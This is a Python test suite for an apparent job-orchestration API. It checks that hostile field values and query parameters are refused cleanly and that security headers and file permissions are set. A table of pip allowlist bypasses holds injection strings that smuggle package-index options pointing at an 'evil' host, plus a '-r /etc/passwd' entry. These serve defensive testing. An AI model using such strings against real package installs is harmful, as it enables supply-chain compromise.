"""Hostile values in every field the API stores and every query parameter it reads,
on SQLite and PostgreSQL: each is a 4xx naming the field, never a 500, nothing is
stored, and listing still works afterwards (``raylane.orchestrator.domain.inputs``).

Bodies are sent as raw JSON text: ``json.dumps`` writes a lone surrogate as the
escape ``"\\ud800"`` and NaN as ``NaN``, which is what a careless or hostile
client sends (httpx's own encoder would refuse both before sending).
"""

from __future__ import annotations

import json
import math
import os
import stat
from pathlib import Path

import pytest
from sqlalchemy import func, select

from raylane.orchestrator.store.tables import job_labels, jobs

BASE = {"name": "hostile", "kind": "command", "entrypoint": "echo hi"}
SWEEP = {"name": "sw", "kind": "sweep", "entrypoint": "m:f",
         "sweep": {"metric": "loss", "search_space": {"lr": {"choice": [1, 2]}}}}
BATCH = {"name": "bt", "kind": "batch_inference", "entrypoint": "m:P",
         "batch": {"input_uri": "s3://in/x.parquet", "output_uri": "s3://out/"}}

STRINGS = {"lone surrogate": "\ud800", "NUL": "a\x00b", "1 MB": "x" * 1_000_000}
NUMBERS = {"NaN": math.nan, "Infinity": math.inf, "-Infinity": -math.inf}


def deep(levels: int, leaf=1):
    for _ in range(levels):
        leaf = {"a": leaf}
    return leaf


def _with(spec: dict, path: str, value) -> dict:
    """``spec`` with ``value`` at the dotted ``path`` (a key ending in ``{}`` sets a dict key)."""
    out = json.loads(json.dumps(spec))
    node = out
    *parents, last = path.split(".")
    for p in parents:
        node = node.setdefault(p, {})
    if last.endswith("{}"):
        node[last[:-2]] = {value: "v"}
    elif last.endswith("[]"):
        node[last[:-2]] = [value]
    else:
        node[last] = value
    return out


# (the field the error must name, base spec, where the value goes)
STRING_FIELDS = [
    ("name", BASE, "name"),
    ("entrypoint", BASE, "entrypoint"),
    ("runtime_env.working_dir", BASE, "runtime_env.working_dir"),
    ("runtime_env.pip", BASE, "runtime_env.pip[]"),
    ("runtime_env.py_modules", BASE, "runtime_env.py_modules[]"),
    ("runtime_env.env_vars", BASE, "runtime_env.env_vars.X"),
    ("runtime_env.env_vars", BASE, "runtime_env.env_vars{}"),
    ("resources.accelerator_type", BASE, "resources.accelerator_type"),
    ("placement.node_group", BASE, "placement.node_group"),
    ("labels", BASE, "labels.team"),
    ("labels", BASE, "labels{}"),
    ("args", BASE, "args.x"),
    ("args", BASE, "args{}"),
    ("args", BASE, "args.nested.list[]"),
    ("sweep.metric", SWEEP, "sweep.metric"),
    ("sweep.search_space", SWEEP, "sweep.search_space.lr.choice[]"),
    ("sweep.search_space", SWEEP, "sweep.search_space{}"),
    ("batch.input_uri", BATCH, "batch.input_uri"),
    ("batch.output_uri", BATCH, "batch.output_uri"),
]
NUMBER_FIELDS = [
    ("timeout_s", BASE, "timeout_s"),
    ("resources.cpus_per_worker", BASE, "resources.cpus_per_worker"),
    ("retry.backoff_s", BASE, "retry.backoff_s"),
    ("args", BASE, "args.x"),
    ("args", BASE, "args.nested.list[]"),
    ("sweep.search_space", SWEEP, "sweep.search_space.lr.choice[]"),
]
CASES = [pytest.param(f, b, p, v, id=f"{p}={k}") for f, b, p in STRING_FIELDS for k, v in STRINGS.items()] + \
        [pytest.param(f, b, p, v, id=f"{p}={k}") for f, b, p in NUMBER_FIELDS for k, v in NUMBERS.items()] + \
        [pytest.param("args", BASE, "args.x", deep(200), id="args.x=200 levels deep")]


def _post(api, path: str, body) -> "httpx.Response":  # noqa: F821 - httpx is the TestClient's
    return api.post(path, content=json.dumps(body).encode(), headers={"Content-Type": "application/json"})


def _counts(cp) -> tuple[int, int]:
    with cp.sessions() as s:
        return s.scalar(select(func.count()).select_from(jobs)), s.scalar(select(func.count()).select_from(job_labels))


def _names(r, field: str) -> bool:
    """The error names ``field``: in a validation error's loc or message, or in a plain detail."""
    detail = r.json()["detail"]
    if isinstance(detail, str):
        return field in detail
    return any(field in ".".join(map(str, d["loc"])) + " " + d["msg"] for d in detail)


def _listing_works(api) -> None:
    r = api.get("/v1/jobs", params={"limit": 500})
    assert r.status_code == 200, r.text[:300]
    r = api.get("/v1/jobs", params={"label": "team=nlp", "name_prefix": "ok"})
    assert r.status_code == 200, r.text[:300]


@pytest.mark.parametrize("field,base,path,value", CASES)
def test_hostile_value_in_a_stored_field_is_refused_and_nothing_stored(api, cp, field, base, path, value):
    api.post("/v1/jobs", json={**BASE, "name": "ok", "labels": {"team": "nlp"}})
    before = _counts(cp)
    spec = _with(base, path, value)
    for url, body in (("/v1/jobs", spec), ("/v1/jobs/batch", {"jobs": [BASE, spec]})):
        r = _post(api, url, body)
        assert 400 <= r.status_code < 500, (url, r.status_code, r.text[:300])
        assert _names(r, field), (url, r.text[:500])
        assert len(r.content) < 10_000, "the error must not echo a huge input back"
    assert _counts(cp) == before
    _listing_works(api)


EDGE_DATES = {"year 1": "0001-01-01T00:00:00+00:00", "year 1 east": "0001-01-01T00:00:00+14:00",
              "year 9999": "9999-12-31T23:59:59+00:00", "year 9999 west": "9999-12-31T23:59:59-14:00"}
TEXTS = {"NUL": "a\x00b", "10 KB": "x" * 10_000}  # httpx refuses a URL over 64 KiB
# (path, query parameter, values to try); {job} is a job of the test
QUERY_CASES = [
    ("/v1/jobs", "node_group", TEXTS),
    ("/v1/jobs", "label", {"NUL value": "team=a\x00b", "NUL key": "te\x00am=a", "10 KB": "t=" + "x" * 10_000}),
    ("/v1/jobs", "name_prefix", TEXTS),
    ("/v1/jobs", "project", TEXTS),
    ("/v1/jobs", "cursor", TEXTS),
    ("/v1/jobs", "created_after", {**EDGE_DATES, "NUL": "2026-01-01T00:00:00Z\x00"}),
    ("/v1/jobs", "created_before", EDGE_DATES),
    ("/v1/jobs/{job}/trials", "sort_by", TEXTS),
    ("/v1/costs", "start", EDGE_DATES),
    ("/v1/costs", "end", EDGE_DATES),
    ("/v1/costs", "project", TEXTS),
    ("/v1/report", "start", EDGE_DATES),
    ("/v1/report", "end", EDGE_DATES),
    ("/v1/report", "project", TEXTS),
    ("/v1/audit", "since", EDGE_DATES),
    ("/v1/audit", "actor", TEXTS),
    ("/v1/audit", "action", TEXTS),
    ("/v1/audit", "cursor", TEXTS),
    ("/v1/tokens", "project", TEXTS),
    ("/v1/projects", "project", TEXTS),
]


@pytest.mark.parametrize("path,param,value", [pytest.param(p, q, v, id=f"{p}?{q}={k}")
                                              for p, q, vals in QUERY_CASES for k, v in vals.items()])
def test_hostile_query_parameter_is_a_422_naming_it(api, cp, path, param, value):
    job = api.post("/v1/jobs", json={**SWEEP, "name": "ok", "labels": {"team": "nlp"}}).json()["id"]
    before = _counts(cp)
    r = api.get(path.format(job=job), params={param: value})
    assert r.status_code == 422, (r.status_code, r.text[:300])
    assert any(d["loc"][:2] == ["query", param] for d in r.json()["detail"]), r.text[:300]
    assert _counts(cp) == before
    _listing_works(api)


def test_query_bytes_that_are_not_utf8_are_not_a_500(api):
    # Starlette decodes a query with replacement characters, so a lone surrogate
    # cannot arrive through one; the bytes that would encode it are still answered.
    for raw in ("%ED%A0%80", "%FF%FE", "%C0%80"):
        for path in ("/v1/jobs?name_prefix=", "/v1/jobs?label=t%3D", "/v1/costs?project=", "/v1/audit?actor="):
            r = api.get(path + raw)
            assert r.status_code < 500, (path + raw, r.status_code, r.text[:300])
    _listing_works(api)


def test_a_spec_too_large_to_exec_is_refused_at_submit_naming_limit_and_size(api, cp):
    from raylane.orchestrator.domain.specs import MAX_EXEC_STRING_BYTES, MAX_SPEC_BYTES

    before = _counts(cp)
    # Each value within its own bound, the whole past what one exec string holds.
    big = {**BASE, "runtime_env": {"env_vars": {f"V{i}": "é" * 3000 for i in range(10)}}}
    for url, body, field in (("/v1/jobs", big, "spec"), ("/v1/jobs/batch", {"jobs": [BASE, big]}, "jobs.1")):
        r = api.post(url, json=body)
        assert r.status_code == 422, r.text[:300]
        d = r.json()["detail"][0]
        assert d["loc"] == ["body", field] and str(MAX_SPEC_BYTES) in d["msg"] and str(MAX_EXEC_STRING_BYTES) in d["msg"]
    assert _counts(cp) == before
    _listing_works(api)


def test_the_largest_accepted_spec_fits_one_exec_string(api):
    import base64

    from raylane.orchestrator.domain.views import Placement
    from raylane.orchestrator.domain.specs import MAX_EXEC_STRING_BYTES, MAX_SPEC_BYTES, JobSpec, exec_size
    from raylane.orchestrator.loops.dispatcher import runner_env

    env_vars = {"A": "y" * 30_000, "B": "y" * 30_000, "C": ""}
    spec = JobSpec.model_validate({**BASE, "kind": "training", "entrypoint": "m:f", "runtime_env": {"env_vars": env_vars}})
    spec.runtime_env.env_vars["C"] = "y" * (MAX_SPEC_BYTES - exec_size(spec))
    assert exec_size(spec) == MAX_SPEC_BYTES
    assert api.post("/v1/jobs", json=spec.model_dump(mode="json", exclude_none=True)).status_code == 201
    placement = Placement(node_group="cpu-spot", market="SPOT", strategy="SPREAD", colocate=False, num_workers=1,
                          worker_resources={"CPU": 1.0},
                          label_selector={"ray.io/node-group": "cpu-spot"}, reasons=["r" * 200] * 5)
    env = runner_env("0" * 26, 100, "p" * 64, spec, placement, Path("/s" * 100))
    # As the dispatcher builds the driver's command line.
    entrypoint = f"RAYLANE_JOB_B64={base64.b64encode(json.dumps(env).encode()).decode()} python -m raylane.jobs.run"
    assert len(entrypoint) + 1 <= MAX_EXEC_STRING_BYTES  # + the terminating NUL


ALLOWED = ["numpy", "numpy==2.0", "NumPy[extra]>=1; python_version >= '3.8'", "scikit_learn~=1.0"]
BYPASSES = {
    # (entry, rule): a line break is malformed whatever the allowlist; the rest get past no allowlist
    "newline + index": ("numpy\n--index-url=http://evil/simple", "policy.pip.one_requirement"),
    "CRLF + -r": ("numpy\r\n-r /etc/passwd", "policy.pip.one_requirement"),
    "unicode line separator": ("numpy\u2028--extra-index-url http://evil", "policy.pip.one_requirement"),
    "option": ("--index-url=http://evil/simple", "policy.pip.allowlist"),
    "editable VCS": ("-e git+https://evil/numpy.git#egg=numpy", "policy.pip.allowlist"),
    "option after name": ("numpy --index-url http://evil/simple", "policy.pip.allowlist"),
    "hash option": ("numpy==1.0 --hash=sha256:00", "policy.pip.allowlist"),
    "direct URL": ("numpy @ https://evil/numpy-9-py3-none-any.whl", "policy.pip.allowlist"),
    "file URL with extras": ("numpy[x] @ file:///tmp/numpy", "policy.pip.allowlist"),
    "VCS link": ("git+https://evil/numpy.git", "policy.pip.allowlist"),
    "wheel URL": ("https://evil/numpy-1.0-py3-none-any.whl", "policy.pip.allowlist"),
    "local path": ("./numpy", "policy.pip.allowlist"),
    "option in a marker": ("numpy; --index-url=http://evil", "policy.pip.allowlist"),
    "marker then option": ("numpy; python_version>'3' --index-url=http://evil", "policy.pip.allowlist"),
    "not allowed name": ("requests", "policy.pip.allowlist"),
}


@pytest.mark.parametrize("entry,rule", list(BYPASSES.values()), ids=list(BYPASSES))
def test_pip_allowlist_bypass_is_refused(api, cp, settings, entry, rule):
    settings.policy_pip_allowlist = ["numpy", "scikit-learn"]
    assert _post(api, "/v1/jobs", {**BASE, "runtime_env": {"pip": ALLOWED}}).status_code == 201
    before = _counts(cp)
    r = _post(api, "/v1/jobs", {**BASE, "runtime_env": {"pip": ["numpy", entry]}})
    assert r.status_code in (403, 422), r.text[:300]
    body = r.json()
    assert (body.get("rule") or body["detail"][0].get("rule")) == rule, r.text[:300]
    assert _counts(cp) == before


def test_a_line_break_in_a_pip_entry_is_refused_without_an_allowlist(api, settings):
    assert settings.policy_pip_allowlist == []
    r = api.post("/v1/jobs", json={**BASE, "runtime_env": {"pip": ["numpy\n--index-url=http://evil/simple"]}})
    assert r.status_code == 422 and r.json()["detail"][0]["rule"] == "policy.pip.one_requirement"
    assert api.post("/v1/jobs", json={**BASE, "runtime_env": {"pip": ["git+https://x/y.git"]}}).status_code == 201


def test_ui_sends_csp_frame_and_nosniff_headers(api):
    for path in ("/ui/", "/ui/app.js", "/ui/style.css"):
        r = api.get(path)
        assert r.status_code == 200, path
        csp = r.headers["content-security-policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
        assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"
    assert "content-security-policy" not in api.get("/v1/jobs").headers


def test_docs_load_swagger_ui_and_redoc_from_this_server(api):
    from fastapi.testclient import TestClient

    anonymous = TestClient(api.app)  # the docs are public, like the page
    for page in ("/docs", "/redoc"):
        html = anonymous.get(page).text
        assert "cdn" not in html.lower() and "https://" not in html, page
        srcs = [s.split('"')[1] for s in html.split("src=")[1:]] + \
            [s.split('"')[1] for s in html.split("href=")[1:] if ".css" in s.split('"')[1]]
        assert srcs, page
        for src in srcs:
            r = anonymous.get(src)
            assert r.status_code == 200 and len(r.content) > 10_000, (page, src, r.status_code)


def test_a_new_token_is_never_cached(api):
    r = api.post("/v1/tokens", json={"name": "ci", "project": "default", "role": "admin"})
    assert r.status_code == 201 and r.headers["cache-control"] == "no-store"


def test_data_dir_is_0700_and_its_files_0600(tmp_path):
    from fastapi.testclient import TestClient

    from raylane.api.app import create_app
    from raylane.orchestrator.settings import Settings

    old = os.umask(0o022)  # the usual umask, under which files were 0644
    try:
        data = tmp_path / "state"
        settings = Settings(data_dir=data, loops_enabled=False, submit_rate_per_s=0)  # SQLite, generated token
        with TestClient(create_app(settings)) as c:
            token = (data / "admin_token").read_text().strip()
            assert c.post("/v1/jobs", json=BASE, headers={"Authorization": f"Bearer {token}"}).status_code == 201
            modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in data.iterdir()}
    finally:
        os.umask(old)
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    assert {"raylane.db", "raylane.db-wal", "admin_token"} <= set(modes), modes
    assert all(m == 0o600 for n, m in modes.items() if n.startswith(("raylane.db", "admin_token"))), modes


@pytest.mark.parametrize("value,path,words", [
    ({"a": {"b": [1, "x\x00"]}}, "args.a.b[1]", "NUL"),
    ({"a": [1.0, float("nan")]}, "args.a[1]", "finite"),
    ({"a": "\ud800"}, "args.a", "UTF-8"),
    ({"k\ud800": 1}, "args (a key)", "UTF-8"),
    ({"a": "x" * 70_000}, "args.a", "longer"),
    ({"x" * 100: [None, ["\x00"]]}, "args." + "x" * 64 + "[1][0]", "NUL"),
    ({"a": [[[]]]}, "args.a[0][0]", "nested deeper"),
])
def test_the_input_rule_names_the_path_of_what_it_refuses(value, path, words, monkeypatch):
    """``check_value`` writes a path only when it refuses: it must still be the one the caller wrote."""
    from raylane.orchestrator.domain import inputs

    monkeypatch.setattr(inputs, "MAX_DEPTH", 3)
    with pytest.raises(ValueError) as e:
        inputs.check_value(value, "args")
    assert str(e.value).startswith(path + ":") and words in str(e.value), str(e.value)[:200]
    assert inputs.check_value({"ok": ["caf\u00e9", 1.5, {"n": None}]}, "args")  # what is fine passes


def _every_route(api) -> list[tuple[str, str]]:
    """(method, path) of every route of the API's OpenAPI document, path parameters
    filled with a value of the right shape (the answer may be 404 or 422: its
    headers count too)."""
    import re

    paths = api.get("/openapi.json").json()["paths"]
    return [(m.upper(), re.sub(r"\{[^}]+\}", "x0", p)) for p, ops in paths.items() for m in ops
            if m in ("get", "post", "put", "patch", "delete")]


def test_every_answer_says_nosniff_and_no_api_answer_is_stored(api):
    """X-Content-Type-Options on every answer of every route (a body is never run as
    another type), Cache-Control: no-store on every answer of the JSON API (specs
    carry env vars; tokens and webhook secrets are shown once): 2xx, 4xx and the
    401 of a request without a token alike."""
    routes = _every_route(api)
    assert len(routes) > 40, routes  # the whole API, not a few
    for method, path in routes:
        for headers in ({}, {"Authorization": ""}):  # as the admin, and as nobody
            r = api.request(method, path, json={} if method in ("POST", "PUT", "PATCH") else None, headers=headers)
            assert r.status_code < 500, (method, path, r.status_code, r.text[:200])
            assert r.headers.get("x-content-type-options") == "nosniff", (method, path, r.status_code)
            if path.startswith("/v1/"):
                assert "no-store" in r.headers.get("cache-control", ""), (method, path, r.status_code)
    # A route that sets its own keeps it; the secret-bearing ones say no-store themselves.
    created = api.post("/v1/tokens", json={"name": "t", "project": "default", "role": "viewer"})
    assert created.status_code == 201 and created.headers["cache-control"] == "no-store"
    assert api.get("/healthz").headers["x-content-type-options"] == "nosniff"
    assert "cache-control" not in api.get("/healthz").headers
